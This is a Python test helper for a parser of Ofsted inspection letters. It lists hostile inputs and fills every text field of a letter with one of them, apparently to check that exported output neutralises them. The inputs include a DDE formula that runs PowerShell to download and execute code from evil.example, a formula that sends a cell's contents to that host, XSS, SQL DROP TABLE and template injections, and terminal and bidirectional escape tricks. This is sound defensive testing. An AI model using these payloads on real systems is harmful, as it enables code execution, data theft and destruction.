"""Texts that an output must show and never obey, and letters that hold one in every text field."""

from __future__ import annotations

from dataclasses import fields, is_dataclass
from enum import Enum
from pathlib import Path
from typing import Any

from ofsted_parse.model import Letter
from ofsted_parse.outcome import Outcome, Refusal

HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "dde": "=cmd|'/C powershell IEX(wget evil.example)'!A0",
    "full_width_formula": "＝1+1",
    "full_width_at": "＠SUM(A1)",
    "tab_first": "\t=1+1",
    "return_first": "\r=1+1",
    "space_first": "  =1+1",
    "apostrophe_first": "'=1+1",
    "script": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "entity": "&lt;b&gt; &#x41; &copy;",
    "rich_xml": "<r><t>one</t></r>",
    "markdown_link": "[Click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "autolink": "<https://evil.example> https://evil.example WWW.evil.example a@evil.example",
    "bare_domain": "nhs.uk EVIL.ORG www.Evil.Com evil.org/?a=b",
    "markdown_blocks": "# Heading | a | `code` | **bold** | ~~gone~~ | $x$",
    "ordered_list": "1. first\n2) second\n- third\n+ fourth\n> fifth\n---\n```\ncode",
    "reference": "[x]: https://evil.example 'title'",
    "escape_sequence": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "bidirectional": "safe \u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "null": "before\x00after\x08\x0b\x7f\x85",
    "lone_surrogate": "half \ud83d of a pair, \udc00",
    "no_character": "\ufffe and \uffff",
    "xml_escape": "_x000D_ _x0041_ ]]> <!-- -->",
    "quotes_and_lines": "\"quoted\", 'single'; a,b\r\nsecond line\u2028third",
    "sql": "'); DROP TABLE letters; --",
    "template": "{{7*7}} ${7*7} %s %d {0}",
    "long": "=" + "a very long text " * 500,
}


def letter_full_of(text: str, letter: Letter) -> Letter:
    """The letter with the text in the place of every other; its enums and dates stay."""
    filled: Letter = _filled(letter, text)
    return filled


def outcomes_full_of(text: str, letter: Letter) -> list[Outcome]:
    """A letter that is read and an input that is refused, with the text wherever text can be."""
    path = Path("letters") / "report.pdf"
    return [
        Outcome(text, path, letter=letter_full_of(text, letter)),
        Outcome(text, None, refusal=Refusal(text, text, text)),
    ]


def _filled(value: Any, text: str) -> Any:
    if isinstance(value, str) and not isinstance(value, Enum):
        return text
    if isinstance(value, tuple):
        return tuple(_filled(item, text) for item in value)
    if is_dataclass(value) and not isinstance(value, type):
        # Not `replace`, whose result mypy cannot know either.
        values = {field.name: _filled(getattr(value, field.name), text) for field in fields(value)}
        return type(value)(**values)
    return value
